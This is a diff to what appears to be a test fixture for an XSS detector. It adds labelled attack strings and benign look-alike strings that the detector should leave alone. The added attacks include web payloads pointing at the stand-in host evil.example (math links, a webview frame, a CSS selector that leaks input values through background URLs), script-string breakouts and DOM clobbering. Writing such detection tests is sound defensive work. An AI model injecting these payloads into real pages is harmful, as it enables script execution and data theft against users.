@@ -61,6 +61,18 @@ export const attacks: readonly (readonly [string, string])[] = [
   ['[][(![]+[])[+[]]]', 'script-code'],
   ['¼script¾go(1)¼/script¾', 'script-element'],
   ['<\u017fcript src=//evil.example>', 'script-source'],
+  ['<math><a xlink:href="//evil.example/a">x', 'math-link'],
+  ['<math href="//evil.example">x</math>', 'math-link'],
+  ['"><div id="7"><script>', 'open-script'],
+  ['<style>input[value^="a"]{background:url(//evil.example/a)}</style>', 'style-script'],
+  ['<form><input name=cookie></form>', 'clobbered-name'],
+  ['<webview src="//evil.example"></webview>', 'frame'],
+  [' draggable ondragstart=alert(1) ', 'attribute-breakout'],
+  ['(0,alert)(1)', 'script-code'],
+  ['[alert].forEach(f=>f(1))', 'script-code'],
+  ["({toString:alert})+''", 'script-code'],
+  ["'-print()-'", 'script-string-breakout'],
+  ["';console.log(1);//", 'script-string-breakout'],
 ]
 
 export const quiet: readonly string[] = [
@@ -85,4 +97,14 @@ export const quiet: readonly string[] = [
   '1¼ cups, ¾ tsp',
   '&lt;',
   'data:image/png;base64,iVBORw0KGgo=',
+  '<math><mi>x</mi><mo>=</mo><a>y</a></math>',
+  'use <script> for that, they said',
+  '<input name="nickname">',
+  'input[value] { color: red }',
+  '[alert] disk is full',
+  '(warn, alert)',
+  '{ severity: alert }',
+  "it's - f(x) - that's all",
+  "'a' - f(1) is what I get",
+  ' click on it',
 ]
